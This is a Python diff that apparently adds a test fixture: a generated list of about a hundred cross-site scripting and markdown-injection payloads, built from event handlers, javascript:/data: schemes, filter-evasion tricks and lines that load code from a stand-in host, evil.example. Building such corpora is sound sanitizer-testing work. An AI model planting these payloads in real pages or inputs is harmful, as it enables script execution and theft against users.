@@ -1,0 +1,73 @@
+"""A hundred texts that try to run something where they are shown."""
+
+_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationend")
+_TAGS = ("img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "iframe")
+_SCHEMES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "file:///etc/passwd",
+    "blob:https://example.com/1",
+    "//evil.example/%0d%0ajavascript:alert(1)",
+)
+_SHAPES = (
+    "[click]({})",
+    "[click](<{}>)",
+    "![pic]({})",
+    "<{}>",
+    "[x]: {}\n\n[x]",
+)
+_WHOLE = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='javascript:alert(1)'>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=...><script>alert(1)</script></svg>#x'/>",
+    "<form action='javascript:alert(1)'><button>go</button></form>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<base href='//evil.example/'>",
+    "<link rel=stylesheet href='//evil.example/x.css'>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<div style='background:url(javascript:alert(1))'>x</div>",
+    "<img src=x onerror=alert(1)//",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'-alert(1)-'",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "`<img src=x onerror=alert(1)>`",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    "    <script>alert(1)</script>",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    '<a href="https://example.com" onclick="alert(1)">x</a>',
+    "\u202e<script>alert(1)</script>",
+    '<img src="x` `<script>alert(1)</script>"` `>',
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<keygen autofocus onfocus=alert(1)>",
+    '=HYPERLINK("http://evil.example")',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+)
+
+HOSTILE = [
+    *_WHOLE,
+    *(f"<{tag} {event}=alert(1)>" for tag, event in zip(_TAGS, _EVENTS, strict=True)),
+    *(shape.format(scheme) for scheme in _SCHEMES for shape in _SHAPES),
+]
